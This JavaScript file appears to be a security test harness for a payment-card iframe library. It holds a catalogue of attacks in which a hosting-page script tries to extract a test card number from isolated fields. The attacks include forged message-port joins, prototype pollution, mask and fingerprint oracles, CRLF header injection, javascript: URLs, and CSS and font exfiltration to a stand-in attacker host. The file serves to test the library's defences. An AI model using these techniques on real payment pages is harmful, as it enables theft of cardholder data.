// Attacks of a script in the hosting page. Each returns what it learned; the test searches that for the card.
//
// The page has no policy of its own, so that nothing but the elements stands in the way.

(() => {
  const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const attempt = async (steal) => {
    try {
      return await steal();
    } catch (error) {
      return `${error.name}: ${error.message} ${JSON.stringify(error.data ?? error.details ?? null)}`;
    }
  };
  const all = async (...steals) => {
    const loot = [];
    for (const steal of steals) {
      loot.push(await attempt(steal));
    }
    return loot;
  };
  const frameOf = (name) => document.querySelector(`#box-${name} iframe`);
  const fields = () => [...document.querySelectorAll("iframe")];
  const coordinator = () => document.querySelector("iframe[src*='coordinator.html']");
  const origin = () => `https://${window.settings.ELEMENTS}`;
  const { bt, elements } = new Proxy({}, { get: (_, name) => new Proxy({}, { get: (_, member) => window[name][member] }) });
  const create = (model) => bt.tokens.create(model);
  const element = (name) => window.elements[name];

  /** Sends a message with a port, and returns what comes back on it. */
  const offerPort = async (target, message, calls = []) => {
    const { port1, port2 } = new MessageChannel();
    const heard = [];
    port1.onmessage = ({ data }) => heard.push(data);
    target.postMessage(message, "*", [port2]);
    for (const [index, [method, ...args]] of calls.entries()) {
      port1.postMessage({ call: index + 1, method, args });
    }
    await wait(150);
    return heard;
  };
  const probe = [
    ["report", {}], ["read"], ["resolve", { correlationId: "x", elementId: "data", path: "" }], ["follow", "x"], ["welcome"],
    ["constructor"], ["__proto__"], ["toString"], ["hasOwnProperty", "value"], ["valueOf"],
  ];
  /** Asks over a port that the page rightfully holds. */
  const ask = async (port, calls) => {
    const heard = [];
    const listen = ({ data }) => heard.push(data);
    port.addEventListener("message", listen);
    calls.forEach(([method, ...args], index) => port.postMessage({ call: 9_000 + index, method, args }));
    calls.forEach(([notice, ...args]) => port.postMessage({ notice, args }));
    await wait(150);
    port.removeEventListener("message", listen);
    return heard;
  };
  const newFrame = (src, attributes = {}) =>
    new Promise((resolve) => {
      const frame = document.createElement("iframe");
      Object.entries(attributes).forEach(([name, value]) => frame.setAttribute(name, value));
      frame.onload = () => resolve(frame);
      if (src) {
        frame.src = src;
      }
      document.body.append(frame);
      setTimeout(() => resolve(frame), 1_000);
    });
  const idOf = (name) => new URLSearchParams(new URL(frameOf(name).src).hash.slice(1)).get("id");
  const coordinatorId = () => new URLSearchParams(new URL(coordinator().src).hash.slice(1)).get("id");
  const coordinatorIndex = () => Array.from(window.frames).indexOf(coordinator().contentWindow);
  /** A request whose gaps the attacker chose. */
  const forge = (operation, json, placements, target = null) =>
    Promise.all(window.ports.map((port) =>
      new Promise((resolve) => {
        const heard = [];
        port.addEventListener("message", ({ data }) => heard.push(data));
        try {
          port.postMessage({ call: 77, method: "request", args: [operation, target, { json, placements }, {}] });
        } catch {
          // Closed or transferred.
        }
        setTimeout(() => resolve(heard), 250);
      })
    ));
  const at = (name, ...path) => ({ path, elementId: idOf(name) });

  window.attacks = {
    // The DOM of the frames.
    "contentDocument of every frame": () => all(...fields().map((frame) => () => frame.contentDocument?.body.innerHTML)),
    "contentWindow.document of every frame": () => all(...fields().map((frame) => () => frame.contentWindow.document.querySelector("input").value)),
    "window.frames by index": () => all(...Array.from(window.frames, (frame) => () => frame.document.querySelector("input").value)),
    "eval in a frame": () => all(() => frameOf("number").contentWindow.eval("document.querySelector('input').value")),
    "Function of a frame": () => all(() => new (frameOf("number").contentWindow.Function)("return document.body.innerHTML")()),
    "location of a frame": () => all(...fields().map((frame) => () => frame.contentWindow.location.href)),
    "name and history of a frame": () => all(() => frameOf("number").contentWindow.name, () => frameOf("number").contentWindow.history.length),
    "frames inside frames": () => all(...fields().map((frame) => () => frame.contentWindow.length)),
    "inputs of the page": () => [...document.querySelectorAll("input, textarea, [contenteditable]")].map((node) => node.value),
    "text and markup of the page": () => [document.documentElement.outerHTML, document.body.innerText],
    "elementFromPoint and caret position": () => {
      const { x, y, width, height } = frameOf("number").getBoundingClientRect();
      const node = document.elementFromPoint(x + width / 2, y + height / 2);
      const range = document.caretRangeFromPoint?.(x + 20, y + height / 2);
      return [node.outerHTML, range?.startContainer?.textContent];
    },
    "selection of everything": () => {
      document.execCommand("selectAll");
      return [String(getSelection()), document.execCommand("copy")];
    },
    "selection inside a frame": () => all(() => String(frameOf("number").contentWindow.getSelection())),
    "computed style of a frame's input": () => all(() => frameOf("number").contentWindow.getComputedStyle(document.body).content),
    "search in page and frames": (secrets) => secrets.filter((text) => window.find(text, false, false, true, false, true, false)),
    "clone and import of a frame": () => all(() => frameOf("number").cloneNode(true).contentDocument, () => document.importNode(frameOf("number"), true).outerHTML),
    "drawing a frame": () => all(
      () => document.createElement("canvas").getContext("2d").drawImage(frameOf("number"), 0, 0),
      () => createImageBitmap(frameOf("number")),
      async () => {
        const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="60"><foreignObject width="300" height="60">${new XMLSerializer().serializeToString(frameOf("number"))}</foreignObject></svg>`;
        const image = new Image();
        image.src = `data:image/svg+xml,${encodeURIComponent(svg)}`;
        await image.decode();
        const canvas = document.createElement("canvas");
        canvas.getContext("2d").drawImage(image, 0, 0);
        return canvas.toDataURL().length;
      },
    ),
    "resource timing": () => performance.getEntries().map((entry) => JSON.stringify(entry)),
    "performance observers": async () => {
      const seen = [];
      const observer = new PerformanceObserver((list) => seen.push(...list.getEntries().map((entry) => JSON.stringify(entry))));
      for (const type of PerformanceObserver.supportedEntryTypes) {
        observer.observe({ type, buffered: true });
      }
      await wait(100);
      return seen;
    },
    "reporting observer": async () => {
      const seen = [];
      new ReportingObserver((reports) => seen.push(JSON.stringify(reports)), { buffered: true }).observe();
      await wait(50);
      return seen;
    },
    "document.domain": () => all(() => {
      document.domain = document.domain;
      return frameOf("number").contentDocument?.body.innerHTML;
    }),
    "storage of the page": async () => [JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), document.cookie, JSON.stringify(await indexedDB.databases()), JSON.stringify(await caches.keys())],
    "own properties of elements": () =>
      Object.values(window.elements).map((one) => [
        Reflect.ownKeys(one).map(String), Reflect.ownKeys(Object.getPrototypeOf(one)).map(String), JSON.stringify(one),
        one.getState(), one.metadata, one.cardMetadata, one.value, one.getValue?.(), String(one), one.toJSON(),
      ]),
    "serialization of the global": () => JSON.stringify(window.BasisTheoryElements),

    // Frames that the attacker opens or changes.
    "a field of its own": async () => {
      const frame = await newFrame(frameOf("number").src);
      return all(() => frame.contentDocument?.body.innerHTML);
    },
    "a second coordinator": async () => {
      const frame = await newFrame(coordinator().src);
      const heard = await offerPort(frame.contentWindow, { elements: 1, kind: "connect" }, [
        ["request", "createToken", null, { json: { type: "token", data: null }, placements: [at("number", "data")] }, {}],
      ]);
      frame.remove();
      return heard;
    },
    "a field with the id of another": async () => {
      const frame = await newFrame(frameOf("number").src.replace("type=cardNumber", "type=text"));
      const heard = await offerPort(frame.contentWindow, { elements: 1, kind: "connect" }, [["configure", {}, {}]]);
      frame.remove();
      return heard;
    },
    "a field as a popup": async () => {
      const popup = window.open(frameOf("number").src);
      await wait(300);
      const loot = await all(() => popup?.document.body.innerHTML);
      popup?.close();
      return loot;
    },
    "a popup with the name of a frame": async () => {
      const popup = window.open("javascript:opener.stolen=document.body.innerHTML", frameOf("text").contentWindow === null ? "x" : "number-frame");
      await wait(100);
      popup?.close?.();
      return window.stolen;
    },
    "a fake coordinator of the page's origin": async () => {
      const fake = await newFrame(`/unguarded/coordinator.html#id=fake`);
      const heard = [];
      fake.contentWindow.addEventListener("message", ({ data, ports }) => {
        heard.push(data);
        ports.forEach((port) => (port.onmessage = ({ data }) => heard.push(data)));
      });
      const field = await newFrame(frameOf("text").src.replace(coordinatorId(), "fake").replace(idOf("text"), "aa"));
      heard.push(...await offerPort(field.contentWindow, { elements: 1, kind: "connect" }, [["configure", {}, {}]]));
      fake.remove();
      field.remove();
      return heard;
    },
    "a sandboxed field": async () => {
      const field = await newFrame(frameOf("text").src.replace(idOf("text"), "bb"), { sandbox: "allow-scripts" });
      const heard = await offerPort(field.contentWindow, { elements: 1, kind: "connect" }, [["configure", {}, {}]]);
      field.remove();
      return heard;
    },
    "a credentialless field": async () => {
      const field = await newFrame(frameOf("text").src.replace(idOf("text"), "cc"), { credentialless: "" });
      const heard = await offerPort(field.contentWindow, { elements: 1, kind: "connect" }, [["configure", {}, {}]]);
      field.remove();
      return heard;
    },

    // Messages and ports.
    "a second connection to a field": () => offerPort(frameOf("number").contentWindow, { elements: 1, kind: "connect" }, probe),
    "a second connection to the coordinator": () => offerPort(coordinator().contentWindow, { elements: 1, kind: "connect" }, probe),
    "joining the coordinator as a field": () =>
      offerPort(coordinator().contentWindow, { elements: 1, kind: "join", id: "thief", type: "copyButton" }, [["welcome"], ["follow", idOf("number")], ["read"]]),
    "joining as the field that exists": () =>
      offerPort(coordinator().contentWindow, { elements: 1, kind: "join", id: idOf("number"), type: "cardNumber" }, probe),
    "joining from a frame of the page": async () => {
      const frame = await newFrame("about:blank");
      const { port1, port2 } = new frame.contentWindow.MessageChannel();
      const heard = [];
      port1.onmessage = ({ data }) => heard.push(data);
      // A function of the frame sends, so that the message comes from there.
      frame.contentWindow.eval("(target, message, port) => target.postMessage(message, '*', [port])")(coordinator().contentWindow, { elements: 1, kind: "join", id: "thief2", type: "copyButton" }, port2);
      port1.postMessage({ call: 1, method: "follow", args: [idOf("number")] });
      port1.postMessage({ call: 2, method: "read", args: [] });
      await wait(150);
      frame.remove();
      return heard;
    },
    "joining from a data URL": async () => {
      const code = `<script>const {port1,port2}=new MessageChannel();port1.onmessage=e=>parent.postMessage({loot:e.data},"*");
        parent[${coordinatorIndex()}].postMessage({elements:1,kind:"join",id:"thief3",type:"copyButton"},"*",[port2]);
        port1.postMessage({call:1,method:"follow",args:["${idOf("number")}"]});port1.postMessage({call:2,method:"read",args:[]})</script>`;
      const heard = [];
      const listen = ({ data }) => data?.loot && heard.push(data.loot);
      addEventListener("message", listen);
      const frame = await newFrame(`data:text/html,${encodeURIComponent(code)}`);
      await wait(150);
      removeEventListener("message", listen);
      frame.remove();
      return heard;
    },
    "methods of values over the page's ports": async () => {
      const heard = [];
      for (const port of window.ports) {
        try {
          heard.push(...await ask(port, [...probe, ["lookUpBin", "453914"], ["leave"], ["followed", "x", {}]].slice(0, 10)));
        } catch {
          // Transferred to a frame.
        }
      }
      return heard;
    },
    "all ports that the page ever saw": () => window.ports.length && window.seen.filter((line) => line.startsWith("port")),
    "all messages to the page's window": () => window.seen.filter((line) => line.startsWith("message")),
    "broadcast channels": async () => {
      const heard = [];
      for (const name of ["elements", "basistheory", "cloakroom", "coordinator", ""]) {
        new BroadcastChannel(name).onmessage = ({ data }) => heard.push(data);
      }
      await attempt(() => create({ type: "token", data: element("number") }));
      return heard;
    },
    "malformed messages": async () => {
      for (const message of [null, 1, "x", [], { elements: 1 }, { elements: 1, kind: "join" }, { elements: 1, kind: "connect", id: {} }]) {
        fields().forEach((frame) => frame.contentWindow.postMessage(message, "*"));
      }
      await wait(100);
      return window.seen.slice(-20);
    },

    // The page's own JavaScript.
    "polluted prototypes": async () => {
      const loot = [];
      const names = ["value", "display", "number", "cvc", "data", "report", "state", "toJSON", "json"];
      for (const name of names) {
        Object.defineProperty(Object.prototype, name, { configurable: true, get() { return undefined; }, set(value) { loot.push([name, value]); } });
      }
      loot.push(await attempt(() => create({ type: "token", ["data"]: element("number") })));
      names.forEach((name) => delete Object.prototype[name]);
      return loot.map((item) => attemptJson(item));
    },
    "patched built-ins": async () => {
      const loot = [];
      const originals = [[JSON, "stringify"], [JSON, "parse"], [Object, "entries"], [Object, "fromEntries"], [Array.prototype, "map"], [Array.prototype, "push"], [Promise.prototype, "then"], [Map.prototype, "set"], [String.prototype, "replace"], [window, "fetch"]]
        .map(([object, name]) => [object, name, object[name]]);
      const note = Array.prototype.push;
      originals.forEach(([object, name, original]) => {
        object[name] = function patched(...args) {
          note.call(loot, args);
          return original.apply(this, args);
        };
      });
      const result = await attempt(() => create({ type: "token", data: element("number") }));
      originals.forEach(([object, name, original]) => (object[name] = original));
      return [attemptJson(result), ...loot.map(attemptJson)];
    },
    "getters and proxies in a payload": async () => {
      const seen = [];
      const trap = new Proxy({ type: "token", data: element("number") }, { get: (target, name) => (seen.push(String(name)), target[name]) });
      return [await attempt(() => create(trap)), seen];
    },
    "patched methods of elements": async () => {
      const prototype = Object.getPrototypeOf(element("number"));
      const original = prototype.toJSON;
      prototype.toJSON = function stolen() { return Object.keys(this); };
      const result = await attempt(() => create({ type: "token", data: { a: element("number"), b: { toJSON: () => element("number") } } }));
      prototype.toJSON = original;
      return result;
    },
    "keys that change a prototype": () => forge("createToken", { type: "token", data: {} }, [at("number", "data", "__proto__", "x"), at("number", "data", "constructor")]),

    // Values in places that the API returns.
    "an element as metadata": () => all(() => create({ type: "token", data: "x", metadata: { stolen: element("number") } })),
    "an element as id": () => all(() => create({ type: "token", data: "x", id: element("text") })),
    "an element as container": () => all(() => create({ type: "token", data: "x", containers: [element("text")] })),
    "an element as mask": () => all(() => create({ type: "token", data: "x", mask: element("text") })),
    "an element as fingerprint expression": () => all(() => create({ type: "token", data: "x", fingerprintExpression: element("text") })),
    "an element as the id of a token": () => all(() => bt.tokens.retrieve(element("text")), () => bt.tokens.update(element("text"), { data: "x" })),
    "an element among request options": () => all(() => bt.tokens.create({ type: "token", data: "x" }, { apiKey: element("text"), correlationId: element("text"), idempotencyKey: element("text") })),
    "a mask that shows everything": () => all(
      () => create({ type: "token", data: element("number"), mask: "{{ data }}" }),
      () => create({ type: "token", data: element("number"), mask: "{{ data | reveal_last: 16 }}" }),
      () => create({ type: "token", data: { a: element("number") }, mask: { a: "{{ data.a }}" } }),
    ),
    "a mask that shows parts": () => all(...Array.from({ length: 16 }, (_, index) => async () =>
      (await create({ type: "token", data: element("number"), mask: `{{ data | slice: ${index}, 1 }}` })).data)),
    "a mask in another syntax": () => all(
      () => create({ type: "token", data: element("number"), mask: "{% assign a = data %}{{ a }}" }),
      () => create({ type: "token", data: element("number"), mask: "{{ data | reveal_last: 4 | append: data }}" }),
      () => create({ type: "token", data: element("number"), mask: "{{data|remove:'x'}}" }),
      () => create({ type: "token", data: element("number"), mask: "{{ data | reveal_last: 4, data }}" }),
      () => create({ type: "token", data: element("number"), id: "{{ data }}-a" }),
      () => create({ type: "token", data: element("number"), metadata: { a: "{{ data }}" } }),
    ),
    "a mask of the security code": () => all(
      () => create({ type: "token", data: element("code"), mask: "x{{ data | reveal_last: 3 }}" }),
      () => bt.tokenize({ a: { type: "token", data: element("code"), mask: "{{ data | reveal_last: 3 }}" } }),
    ),
    "a fingerprint to compare": async () => {
      const token = await attempt(() => create({ type: "token", data: element("code") }));
      const guess = await attempt(() => create({ type: "token", data: "739" }));
      return token.fingerprint && token.fingerprint === guess.fingerprint ? ` 739 ` : "nothing";
    },
    "a fingerprint of a part": () => all(
      () => create({ type: "token", data: element("number"), fingerprintExpression: "{{ data | slice: 9, 1 }}" }),
      () => bt.tokenize({ a: { type: "token", data: element("number"), fingerprint_expression: "{{ data | slice: 9, 1 }}" } }),
    ),
    "a duplicate to compare": async () => {
      const token = await attempt(() => create({ type: "token", data: element("code"), deduplicateToken: true }));
      const guess = await attempt(() => create({ type: "token", data: "739", deduplicateToken: true }));
      return token.id && token.id === guess.id ? ` 739 ` : "nothing";
    },
    "a duplicate of a plain value to compare": async () => {
      const guess = await attempt(() => create({ type: "token", data: "739", deduplicateToken: true }));
      const { a } = await attempt(() => bt.tokenize({ a: element("code") }));
      return a === guess.id ? ` 739 ` : "nothing";
    },
    "an intent's fingerprint": async () => attempt(() => bt.tokenIntents.create({ type: "token", data: element("code") })),
    "a tokenized document with an element in metadata": () => all(
      () => bt.tokenize({ a: { type: "token", data: "x", metadata: { stolen: element("number") } } }),
      () => bt.tokenize({ type: "token", data: "x", id: element("text") }),
    ),
    "a token type that is an element's value": async () => {
      await window.add("kind", "text", { value: "token" });
      const loot = await forge("tokenize", { a: { data: "x" } }, [at("kind", "a", "type"), at("number", "a", "metadata", "stolen")]);
      element("kind").unmount();
      return loot;
    },
    "forged places in a payload": () => all(
      () => forge("createToken", { type: "token", data: "x" }, [at("number", "metadata", "stolen")]),
      () => forge("retrieveToken", null, [at("number", "x")], "x"),
      () => forge("createSession", null, [at("number", "x")]),
      () => forge("read", null, [at("number")]),
      () => forge("__proto__", null, [at("number")]),
    ),
    "encryption to a key of the attacker": async () => {
      const pair = await crypto.subtle.generateKey({ name: "X25519" }, true, ["deriveBits"]);
      const raw = new Uint8Array(await crypto.subtle.exportKey("raw", pair.publicKey));
      const pem = `-----BEGIN PUBLIC KEY-----\n${btoa(String.fromCharCode(...raw))}\n-----END PUBLIC KEY-----`;
      const result = await attempt(() => bt.tokens.encrypt({ tokenRequests: { type: "token", data: element("number") }, publicKeyPem: pem, keyId: window.keyId ?? crypto.randomUUID() }));
      return attempt(async () => decrypt(result.encrypted, pair));
    },
    "a proxy to the attacker's host": () => all(
      ...["BT-PROXY-URL", "bt-proxy-url", "Bt-Proxy-Url"].map((name) => () => bt.proxy.post({ headers: { [name]: `https://${window.settings.EVIL}/` }, body: { a: element("number") } })),
      () => bt.proxy.post({ path: `/../../@${window.settings.EVIL}/`, body: { a: element("number") } }),
    ),
    "a request to the attacker's host": () => all(
      ...[`https://${window.settings.EVIL}/a`, `//${window.settings.EVIL}/b`, `https://${window.settings.EVIL}#@elements.vault.test`, "data:text/plain,x", "blob:https://shop.example/x", "javascript:alert(1)"]
        .map((url) => () => bt.client.post(url, { a: element("number") })),
    ),
    "headers with line breaks": () => all(() => bt.proxy.post({ headers: { "BT-PROXY-KEY": "k\r\nBT-PROXY-URL: https://evil.example" }, body: { a: element("number") } })),
    "elements in headers and query of a proxy": () => all(() => bt.proxy.post({ headers: { "X-Stolen": element("text") }, query: { stolen: element("text") }, body: "x" })),
    "error messages of the API": () => all(
      () => create({ type: "card", data: { number: element("text") } }),
      () => create({ type: "us_bank_routing_number", data: element("text") }),
      () => create({ type: "card_number", data: element("code") }),
      () => create({ type: "nonsense", data: element("number") }),
      () => create({ type: "token", data: element("number"), expiresAt: "yesterday" }),
      () => bt.tokenIntents.create({ type: "card", data: { number: element("code") } }),
      () => bt.tokens.retrieve("unknown"),
    ),
    "errors with deep and cyclic payloads": () => all(
      () => {
        const cycle = { a: element("number") };
        cycle.self = cycle;
        return create({ type: "token", data: cycle });
      },
      () => create({ type: "token", data: Array.from({ length: 40 }).reduce((inner) => ({ inner }), element("number")) }),
    ),

    // Questions to which the answer is part of a value.
    "validation rules, one after the other": async () => {
      let known = "";
      for (let place = 0; place < 4; place++) {
        for (const letter of "abcdefghijklmnopqrstuvwxyz-") {
          await attempt(() => element("text").update({ validation: new RegExp(`^${known}${letter}`) }));
          element("text").validate();
          await wait(2);
          if (element("text").metadata.valid && element("text").metadata.complete) {
            // Only a rule that is followed tells anything.
            await attempt(() => element("text").update({ validation: /^impossible$/ }));
            element("text").validate();
            await wait(2);
            if (!element("text").metadata.valid) {
              known += letter;
              break;
            }
          }
        }
      }
      return known ? `${known} zebra-crossing-99` : "nothing";
    },
    "transforms, one after the other": async () => {
      const before = await attempt(() => create({ type: "token", data: element("text") }));
      await attempt(() => element("text").update({ transform: [/^.*$/, "constant"] }));
      const after = await attempt(() => create({ type: "token", data: element("text") }));
      window.compare = [before.id, after.id];
      return window.compare;
    },
    "a follower with a rule of its own": async () => {
      await window.add("follower", "text", { validation: /^zebra/ });
      await window.add("contrary", "text", { validation: /^lion/ });
      ["follower", "contrary"].forEach((name) => element(name).setValueRef(element("text")));
      await wait(200);
      const differs = JSON.stringify(element("follower").metadata) !== JSON.stringify(element("contrary").metadata);
      ["follower", "contrary"].forEach((name) => element(name).unmount());
      return differs ? "zebra-crossing-99" : "nothing";
    },
    "a follower with a mask of its own": async () => {
      await window.add("masked", "text", { mask: [/z/] });
      await window.add("unmasked", "text", { mask: [/q/] });
      ["masked", "unmasked"].forEach((name) => element(name).setValueRef(element("text")));
      await wait(200);
      const differs = JSON.stringify(element("masked").metadata) !== JSON.stringify(element("unmasked").metadata);
      ["masked", "unmasked"].forEach((name) => element(name).unmount());
      return differs ? "zebra-crossing-99" : "nothing";
    },
    "a follower with brands of its own": async () => {
      const type = (lengths) => [{ type: "x", niceType: "x", patterns: [4], gaps: [], lengths, code: { name: "c", size: 3 } }];
      const loot = [];
      for (const length of [12, 13, 14, 15]) {
        await window.add(`cut${length}`, "cardNumber", { cardTypes: type([length]), skipLuhnValidation: true });
        element(`cut${length}`).setValueRef(element("number"));
        await wait(100);
        loot.push(element(`cut${length}`).cardMetadata?.cardLast4);
        element(`cut${length}`).unmount();
      }
      // Four times the last four digits of a part would be the whole.
      return loot.some((last4) => last4 && last4 !== "6467") ? "4539148803436467" : loot;
    },
    "brands of long patterns": async () => {
      const types = [..."0123456789"].map((digit) => ({ type: `d${digit}`, niceType: digit, patterns: [Number(`453914880${digit}`)], gaps: [], lengths: [16], code: { name: "c", size: 3 } }));
      const loot = await attempt(() => window.add("oracle", "cardNumber", { cardTypes: types }));
      await attempt(() => element("oracle").setValueRef(element("number")));
      await wait(200);
      return element("oracle")?.cardMetadata?.cardBrand === "d3" ? "4539148803436467" : [loot].length;
    },
    "a text that follows a card number": async () => {
      await window.add("confused", "text", { validation: /^4539148803436467$/ });
      element("confused").setValueRef(element("number"));
      await wait(150);
      const { empty, valid } = element("confused").metadata;
      element("confused").unmount();
      return !empty && valid ? "4539148803436467" : "nothing";
    },
    "values set by made-up references": () => all(
      () => element("text").setValue({ correlationId: "x", elementId: idOf("number"), path: "" }),
      () => element("text").setValue("x"),
      () => element("number").setValue({ number: { correlationId: "", elementId: "data", path: "number" } }),
    ),
    "the height of a frame": async () => {
      const before = frameOf("number").getBoundingClientRect().height;
      element("text").focus();
      await wait(100);
      return before === frameOf("number").getBoundingClientRect().height ? "nothing" : "the height changed";
    },
    "the scroll position of a frame": () => all(() => frameOf("number").contentWindow.scrollX, () => frameOf("number").contentWindow.pageXOffset),
    "event details": () => window.events.map((event) => JSON.stringify(event)),

    // Styles.
    "styles that load by value": async () => {
      const evil = `https://${window.settings.EVIL}`;
      const selectors = [..."0123456789"].map((digit) => `.input[value^='${digit}']{background:url(${evil}/${digit})}`).join("");
      await attempt(() => element("number").update({
        style: {
          fonts: [`${evil}/font.css`, `@font-face{font-family:x;src:url(${evil}/f);unicode-range:U+34}`],
          base: {
            color: `red;} ${selectors} .x{`, fontFamily: `x; } ${selectors}`, backgroundColor: `url(${evil}/bg)`,
            textShadow: `url(${evil})`, padding: `0} @import url(${evil}/import); {`, "[value^='4']": { color: "red" },
            [`::placeholder, .input[value^='4']`]: { color: "red" }, cursor: `url(${evil}/cursor)`, listStyle: `url(${evil}/list)`,
          },
        },
      }));
      await wait(200);
      return "see the attacker's host";
    },
    "fonts by character": async () => {
      const style = document.createElement("style");
      style.textContent = [..."0123456789"].map((digit) => `@font-face{font-family:spy;src:url(https://${window.settings.EVIL}/f${digit});unicode-range:U+3${digit}}`).join("");
      document.head.append(style);
      await attempt(() => element("number").update({ style: { base: { fontFamily: "spy" } } }));
      await wait(200);
      return "see the attacker's host";
    },
    "a style with prototype keys": async () => {
      await attempt(() => element("number").update({ style: JSON.parse('{"__proto__":{"base":{"color":"red"}},"constructor":{"prototype":{"x":1}}}') }));
      return [({}).base, ({}).x];
    },

    // The clipboard, without a click of the cardholder.
    "clicks of a script on a copy button": async () => {
      await attempt(() => element("copy").setValueRef(element("number")));
      frameOf("copy").click();
      frameOf("copy").dispatchEvent(new MouseEvent("click", { bubbles: true }));
      element("copy").focus();
      document.activeElement.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true }));
      await wait(200);
      return attempt(() => navigator.clipboard.readText());
    },

    // Removal and navigation: last, because they end the fields.
    "a field that moves to another place": async () => {
      const target = document.createElement("div");
      document.body.append(target);
      target.append(frameOf("text"));
      await wait(300);
      return all(() => target.firstChild.contentDocument?.body.innerHTML, () => create({ type: "token", data: element("text") }));
    },
    "javascript URLs in a frame": async () => {
      const frame = frameOf("code");
      const loot = await all(
        () => { frame.src = "javascript:parent.stolen=document.body.innerHTML+document.querySelector('input').value"; },
        () => { frame.contentWindow.location = "javascript:parent.stolen=document.body.innerHTML"; },
        () => { frame.contentWindow.location.replace("javascript:parent.stolen=1"); },
      );
      await wait(200);
      return [loot, window.stolen];
    },
    "srcdoc over a field": async () => {
      frameOf("date").srcdoc = "<script>parent.stolen = document.body.innerHTML + (window.opener || '') + name</script>";
      await wait(300);
      return window.stolen;
    },
    "a field that navigates away and back": async () => {
      const frame = frameOf("number");
      frame.contentWindow.location = `https://${window.settings.EVIL}/page`;
      await wait(400);
      history.back();
      await wait(600);
      return all(() => frame.contentDocument?.body.innerHTML, () => create({ type: "token", data: element("number") }));
    },
    "a coordinator that is replaced": async () => {
      const frame = coordinator();
      const { src } = frame;
      frame.remove();
      const fake = await newFrame(src);
      const heard = await offerPort(fake.contentWindow, { elements: 1, kind: "connect" }, [
        ["request", "createToken", null, { json: { type: "token", data: null }, placements: [at("copy", "data")] }, {}],
      ]);
      return heard;
    },
  };

  function attemptJson(value) {
    try {
      return JSON.stringify(value) ?? String(value);
    } catch (error) {
      return String(error);
    }
  }

  /** Decrypts a JWE, if it is for the attacker's key. */
  async function decrypt(jwe, pair) {
    const [header, , iv, ciphertext, tag] = jwe.split(".");
    const bytes = (text) => Uint8Array.from(atob(text.replaceAll("-", "+").replaceAll("_", "/")), (letter) => letter.charCodeAt(0));
    const { epk } = JSON.parse(atob(header));
    const theirs = await crypto.subtle.importKey("raw", bytes(epk.x), { name: "X25519" }, false, []);
    const shared = new Uint8Array(await crypto.subtle.deriveBits({ name: "X25519", public: theirs }, pair.privateKey, 256));
    const algorithm = new TextEncoder().encode("A256GCM");
    const input = new Uint8Array([0, 0, 0, 1, ...shared, 0, 0, 0, algorithm.length, ...algorithm, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0]);
    const key = await crypto.subtle.importKey("raw", await crypto.subtle.digest("SHA-256", input), "AES-GCM", false, ["decrypt"]);
    const sealed = new Uint8Array([...bytes(ciphertext), ...bytes(tag)]);
    const plain = await crypto.subtle.decrypt({ name: "AES-GCM", iv: bytes(iv), additionalData: new TextEncoder().encode(header) }, key, sealed);
    return new TextDecoder().decode(plain);
  }
})();
